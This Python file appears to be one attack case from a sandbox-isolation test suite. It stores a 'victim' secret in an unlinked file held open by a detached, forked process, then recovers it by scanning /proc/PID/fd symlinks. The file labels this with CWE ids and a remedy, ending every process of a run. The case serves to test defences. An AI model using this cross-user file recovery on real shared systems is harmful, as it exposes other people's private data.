# SPDX-License-Identifier: MIT
"""survivor-unlinked.py - a file that was removed and is still there.

Goal: another student's work.
Means: removing a file takes its name; the file lives while somebody has it open. A process that the
first run left behind does. /proc/PID/fd opens it for every process of the same user.
"""

import glob
import os
import time

from attack import DONE, attempting, denied, failed, loot


def run(brief):
    attempting()
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            if os.readlink(path).endswith(f"/{brief.name}.kept (deleted)"):
                with open(path, "rb") as file:
                    loot(file.read())
                return DONE
        except OSError:
            continue  # another user's, or gone
    return denied("open", "no process holds it")


def survive(kept):
    """Leave the session and every pipe, so that nobody waits for us, and hold on to the file."""
    os.setsid()
    os.dup2(kept, 0)
    os.closerange(1, 1024)
    time.sleep(5)


def victim(brief):
    for folder in "/tmp", ".":  # where /tmp is out of reach, the student's own folder
        try:
            path = f"{folder}/{brief.name}.kept"
            kept = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
            os.write(kept, brief.secret.encode())
            break
        except OSError as error:
            why = error
    else:
        return failed("open", why)
    try:
        if os.fork() == 0:
            try:
                survive(kept)
            finally:
                os._exit(0)
        os.unlink(path)
    except OSError:
        pass  # a refused survivor is the defence at work; the student keeps the plain file
    return DONE


ATTACK = {
    "effect": "the next student reads what the last one's process still holds",
    "means": "an unlinked file in a survivor, opened through /proc/PID/fd",
    "oracle": "secret:victim",
    "scene": "after-victim",
    "id": "TMPS-14",
    "attack_id": "T1005, CWE-459, CWE-403",
    "remedy": "end every process of a run, whatever its session",
    "run": run,
    "victim": victim,
}
